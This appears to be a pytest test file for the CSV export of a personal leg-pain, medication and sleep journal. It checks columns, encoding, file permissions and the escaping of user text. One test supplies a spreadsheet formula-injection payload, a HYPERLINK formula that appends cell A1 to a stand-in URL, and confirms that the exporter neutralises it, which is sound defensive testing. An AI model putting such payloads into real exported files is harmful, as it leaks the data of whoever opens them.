"""The days for a spreadsheet: every answer in its place, and no words taken for a formula."""

import csv
from datetime import date, datetime, timedelta
from io import StringIO
from pathlib import Path

import pytest
from hand_clock import EVENING
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from legjournal.clock import LONDON, with_offset
from legjournal.errors import IsAJournal
from legjournal.journal import Journal
from legjournal.models.routine import SkipReason
from legjournal.report.as_csv import as_csv, save_csv
from legjournal.routine.boxes import SetToDo
from legjournal.spreadsheet import GUARDED, MARK
from legjournal.trends.period import Period

TODAY = EVENING.date()
DAY = timedelta(days=1)


def _days(journal: Journal, first: date, picked: tuple[date, ...] = ()) -> list[dict[str, str]]:
    """The rows from `first` to today, as a spreadsheet reads them."""
    written = as_csv(journal, Period(first, TODAY), picked)
    assert written.startswith(MARK)
    return list(csv.DictReader(StringIO(written.removeprefix(MARK), newline="")))


def _answered(row: dict[str, str]) -> dict[str, str]:
    return {head: cell for head, cell in row.items() if cell}


def test_each_answer_of_a_day_is_in_its_column(journal: Journal) -> None:
    """Numbers as numbers, 0 among them; the worst of the day; times as the clock showed them."""
    journal.symptoms.add(TODAY, kind="pain", side="left", site="calf", score=6)
    journal.symptoms.add(TODAY, kind="pain", side="both", site="thigh", score=2)
    journal.symptoms.add(TODAY, kind="cramp", score=0)
    journal.diary.record(TODAY, effect=0, mood=3, tiredness=8, factors=["coffee", "long sitting"])
    journal.diary.mark_bad_day(TODAY)
    at = journal.nights.time_of_night
    journal.nights.record(
        TODAY,
        got_into_bed=at(TODAY, datetime(2026, 1, 1, 22, 30).time()),
        tried_to_sleep=at(TODAY, datetime(2026, 1, 1, 23).time()),
        minutes_to_fall_asleep=30,
        wakings=3,
        woken_by_legs=0,
        minutes_awake=30,
        final_waking=at(TODAY, datetime(2026, 1, 1, 6).time()),
        got_out_of_bed=at(TODAY, datetime(2026, 1, 1, 7).time()),
        quality=4,
        had_to_walk_about=False,
    )
    [row] = _days(journal, TODAY)
    assert _answered(row) == {
        "Date": "2026-11-22",
        "Recorded on the same day": "yes",
        "Pain left, worst": "6",
        "Pain right, worst": "2",
        "Pain, worst": "6",
        "Cramp, worst": "0",
        "Effect on the day": "0",
        "Mood": "3",
        "Tiredness": "8",
        "What may have mattered": "coffee, long sitting",
        "Bad day": "yes",
        "Got into bed": "2026-11-21 22:30",
        "Tried to sleep": "2026-11-21 23:00",
        "Last woke": "2026-11-22 06:00",
        "Got up": "2026-11-22 07:00",
        "Minutes to fall asleep": "30",
        "Woke up, times": "3",
        "Woken by the legs, times": "0",
        "Minutes awake in the night": "30",
        "Minutes in bed": "510",
        "Minutes asleep": "360",
        "How the sleep was": "4",
        "Had to walk about": "no",
    }


def test_what_was_done_about_it_stands_beside(journal: Journal) -> None:
    """Sessions, days off, doses of the evening after midnight, visits with their cost, the weekly check."""
    journal.sessions.tick(TODAY, SetToDo("glute-bridge", 1))
    journal.sessions.record(journal.sessions.on(TODAY)[0].id, effort=7)
    journal.days_off.skip(TODAY - DAY, SkipReason.ILL)
    tablet = journal.medicines.add(name="Paracetamol", dose="1 g").rows[0]
    for hour, day in ((1, 22), (9, 22), (10, 22)):  # the first is still the evening of the 21st
        journal.medicines.record_dose(tablet, with_offset(datetime(2026, 11, day, hour, tzinfo=LONDON)))
    course = journal.therapies.add(name="Massage").rows[0]
    journal.therapies.add_visit(course, date=TODAY, cost_pence=4550)
    journal.therapies.add_visit(course, date=TODAY)
    journal.weekly.record(TODAY, average_pain=5, everyday_activities=0)
    yesterday, today = map(_answered, _days(journal, TODAY - DAY))
    assert yesterday == {
        "Date": "2026-11-21",
        "Rest or skipped": "skipped",
        "Why skipped": "ill",
        "Doses": "1",
        "Doses of what": "Paracetamol 1 g: 1",
    }
    assert today == {
        "Date": "2026-11-22",
        "Recorded on the same day": "yes",
        "Sessions": "1",
        "Effort of a session, highest": "7",
        "Doses": "2",
        "Doses of what": "Paracetamol 1 g: 2",
        "Therapy visits": "Massage; Massage",
        "Cost of visits, pounds": "45.5",
        "Weekly check: pain in the legs, on average": "5",
        "Weekly check: got in the way of everyday things": "0",
    }


def test_every_day_has_its_row(journal: Journal) -> None:
    """A day on which nothing was written is a row of empty cells, not of noughts."""
    rows = _days(journal, TODAY - 400 * DAY)
    assert [row["Date"] for row in rows] == [(TODAY - n * DAY).isoformat() for n in range(400, -1, -1)]
    assert all(list(_answered(row)) == ["Date"] for row in rows)


def test_notes_go_along_only_of_picked_days(journal: Journal) -> None:
    """Without a picked day there is not even a column for them."""
    for day in (TODAY - DAY, TODAY):
        journal.diary.record(day, note=f"Note of {day.day}", managed="Walked")
        journal.symptoms.add(day, kind="pain", score=1, note='first, “second”\nand the "third"')
    assert "Note" not in as_csv(journal, Period(TODAY - DAY, TODAY))
    yesterday, today = _days(journal, TODAY - DAY, picked=(TODAY,))
    assert (today["Note of the day"], today["What I managed"]) == ("Note of 22", "Walked")
    assert today["Notes of what was felt"] == 'first, “second”\nand the "third"'
    assert yesterday["Note of the day"] == yesterday["Notes of what was felt"] == ""


@pytest.mark.parametrize("first", sorted(GUARDED - {"\n"}))
def test_words_that_look_like_a_formula_are_kept_as_words(journal: Journal, first: str) -> None:
    """An apostrophe before them, and nothing of them lost."""
    typed = f'{first}HYPERLINK("http://x"&A1,"x")'
    journal.diary.record(TODAY, note=typed, factors=[typed])
    [row] = _days(journal, TODAY, picked=(TODAY,))
    assert row["Note of the day"] == row["What may have mattered"] == f"'{typed}"


@given(typed=st.text(st.characters(exclude_categories=["Cs"]), min_size=1).filter(str.strip))
@settings(max_examples=40, suppress_health_check=[HealthCheck.function_scoped_fixture])
def test_whatever_was_typed_is_read_back(journal: Journal, typed: str) -> None:
    """Quotes, commas, ends of lines and letters of any kind come through; only NUL does not."""
    journal.diary.record(TODAY, note=typed)
    [row] = _days(journal, TODAY, picked=(TODAY,))
    cell = row["Note of the day"]
    assert cell[:1] not in GUARDED
    assert cell.removeprefix("'") == typed.replace("\0", "").removeprefix("'")


def test_the_file_is_utf_8_with_the_ends_of_lines_of_rfc_4180(journal: Journal, tmp_path: Path) -> None:
    """With the mark that Excel looks for, for its owner only, and never in the place of a journal."""
    journal.diary.record(TODAY, note="ŵ ŷ £")
    path = tmp_path / "days.csv"
    save_csv(as_csv(journal, Period(TODAY, TODAY), [TODAY]), path)
    content = path.read_bytes()
    assert content.startswith(b"\xef\xbb\xbfDate,")
    assert content.count(b"\r\n") == 2
    assert "ŵ ŷ £".encode() in content
    assert path.stat().st_mode & 0o777 == 0o600
    with pytest.raises(IsAJournal):
        save_csv("", journal.path)
